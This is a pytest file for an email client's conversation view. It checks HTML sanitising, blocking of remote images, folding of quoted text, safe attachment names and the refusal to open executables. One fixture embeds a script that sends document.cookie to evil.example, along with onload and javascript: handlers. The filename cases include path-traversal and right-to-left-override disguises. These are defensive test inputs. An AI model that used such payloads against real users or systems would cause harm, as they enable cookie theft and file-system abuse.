"""Mail as the agent sees it: sanitised HTML, remote images held back behind a bar (and no
network touched), quoted history folded, attachments as chips with safe names."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from PySide6.QtCore import QBuffer, QIODevice, QUrl
from PySide6.QtGui import QImage
from pytestqt.qtbot import QtBot

from omniinbox.domain import Attachment
from omniinbox.ui.attachments import is_risky, safe_filename
from omniinbox.ui.mail_html import clean_html, split_quoted
from omniinbox.ui.main_window import MainWindow
from omniinbox.ui.settings import IMAGE_SENDERS
from tests.ui.sample_desk import Desk, email

NEWSLETTER = """
<html><head><style>body{background:url(http://track.example/bg.png)}</style>
<script>fetch('http://evil.example/'+document.cookie)</script></head>
<body onload="alert(1)"><p>Your parcel <b>KZ-77</b> is on its way.</p>
<img src="http://track.example/pixel.gif?u=aigerim" width="1" height="1">
<img src="https://cdn.shop.example/banner.png" alt="Sale">
<a href="javascript:alert(2)">click</a> <a href="https://shop.example/track">Track it</a>
<blockquote>On Monday you wrote: where is my parcel?</blockquote></body></html>
"""


def open_html_mail(qtbot: QtBot, window: MainWindow, desk: Desk, html: str = NEWSLETTER) -> int:
    message = email(
        "<news1@shop.example>",
        "Aigerim Nurlanovna",
        "aigerim@example.kz",
        "Parcel",
        "",
        1,
        html=html,
    )
    changes = window.engine.submit(
        lambda s: s.ingest(desk.email_account, [message], "mail-n1")
    ).result()
    conversation = next(iter(changes.conversations))
    window.open_conversation(conversation)
    return conversation


def test_remote_images_are_held_back_and_nothing_is_fetched(
    qtbot: QtBot, window: MainWindow, desk: Desk
) -> None:
    open_html_mail(qtbot, window, desk)
    view = window.conversation_view
    assert view.image_bar.isVisible()
    assert "2 remote image" in view.image_bar.label.text()
    assert "aigerim@example.kz" in view.image_bar.button.text()
    text = view.timeline_text()
    assert "Your parcel KZ-77 is on its way." in text
    assert "alert" not in text and "fetch(" not in text
    qtbot.wait(100)  # give anything that would load a chance to start
    assert view.timeline.blocked_asked >= 1  # the document asked; it got a grey tile
    assert view.timeline.remote.requests_made == 0
    assert not view.timeline.remote.network_used


@contextmanager
def image_server() -> Iterator[str]:
    """A local web server with one small PNG: the address of that image."""
    buffer = QBuffer()
    buffer.open(QIODevice.OpenModeFlag.WriteOnly)
    picture = QImage(8, 8, QImage.Format.Format_RGB32)
    picture.fill(0x2F6FDB)
    picture.save(buffer, "PNG")
    png = bytes(buffer.data().data())

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(png)))
            self.end_headers()
            self.wfile.write(png)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/banner.png"
    finally:
        server.shutdown()
        server.server_close()


def test_showing_images_from_a_sender_is_remembered(
    qtbot: QtBot, window: MainWindow, desk: Desk
) -> None:
    with image_server() as url:
        conversation = open_html_mail(qtbot, window, desk, f'<p>Sale!</p><img src="{url}">')
        view = window.conversation_view
        assert view.image_bar.isVisible()
        view.image_bar.button.click()
        qtbot.waitUntil(lambda: view.timeline.remote.image(url) is not None)
        assert view.timeline.remote.requests_made == 1
    assert not view.image_bar.isVisible()
    assert "aigerim@example.kz" in window.settings.get(IMAGE_SENDERS)
    window.open_conversation(desk.giorgi)
    assert not view.timeline.allow_remote
    window.open_conversation(conversation)
    assert not view.image_bar.isVisible()
    assert view.timeline.allow_remote


def test_quoted_history_is_folded_until_asked_for(
    qtbot: QtBot, window: MainWindow, desk: Desk
) -> None:
    open_html_mail(qtbot, window, desk)
    view = window.conversation_view
    assert "where is my parcel?" not in view.timeline_text()
    assert "Show quoted text" in view.timeline_text()
    message_id = view.messages[-1].id
    view.timeline.anchorClicked.emit(QUrl(f"omni:quote:{message_id}"))
    assert "where is my parcel?" in view.timeline_text()


def test_a_plain_text_quote_is_folded_too(qtbot: QtBot, window: MainWindow, desk: Desk) -> None:
    window.open_conversation(desk.aigerim)
    text = window.conversation_view.timeline_text()
    assert "the blender arrived with a cracked jug." in text
    assert "quoted earlier text" not in text


def test_html_is_sanitised() -> None:
    clean = clean_html(NEWSLETTER)
    for bad in ("<script", "onload", "javascript:", "<style", "track.example/bg.png"):
        assert bad not in clean.html
    assert clean.remote_images == (
        "http://track.example/pixel.gif?u=aigerim",
        "https://cdn.shop.example/banner.png",
    )
    assert clean.has_quote and "where is my parcel" not in clean.html
    assert "where is my parcel" in clean_html(NEWSLETTER, fold_quotes=False).html


def test_the_quote_below_a_reply_is_split_off() -> None:
    body, quoted = split_quoted(
        "Thanks, it works.\n\nOn Mon, 2 Mar 2026, Dana wrote:\n> Try again\n> please\n"
    )
    assert body == "Thanks, it works."
    assert quoted.startswith("On Mon") and quoted.endswith("> please")
    assert split_quoted("> only a quote") == ("> only a quote", "")
    inline = "> question one\nanswer one\n> question two\nanswer two"
    assert split_quoted(inline) == (inline, "")


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Windows\\system32\\evil.dll", "evil.dll"),
        ("CON.txt", "_CON.txt"),
        ("  .hidden  ", "hidden"),
        ('in<voi>ce:"1"?.pdf', "in_voi_ce__1__.pdf"),
        ("счёт\u202egpj.exe", "счётgpj.exe"),
        ("", "attachment"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
    ],
)
def test_attachment_names_are_made_safe(name: str, safe: str) -> None:
    assert safe_filename(name) == safe


def test_programs_are_never_opened_only_saved(
    qtbot: QtBot, window: MainWindow, desk: Desk, tmp_path: Path
) -> None:
    assert is_risky("invoice.pdf.exe") and is_risky("setup.MSI") and not is_risky("photo.jpg")
    view = window.conversation_view
    window.open_conversation(desk.aigerim)
    attachment = next(a for m in view.messages for a in m.attachments)
    menu = view.attachments.menu(attachment)
    assert [a.text() for a in menu.actions() if a.text()] == ["Open", "Save as…"]
    saved = view.attachments.save_as(attachment, str(tmp_path / "copy.pdf"))
    assert saved is not None and saved.read_bytes() == b"%PDF-1.4 ..."
    program = Attachment(99, 1, "run me.exe", "application/x-msdownload", 10, attachment.sha256)
    assert view.attachments.open(program) is None
    risky_menu = view.attachments.menu(program)
    assert not next(a for a in risky_menu.actions() if a.text() == "Open").isEnabled()
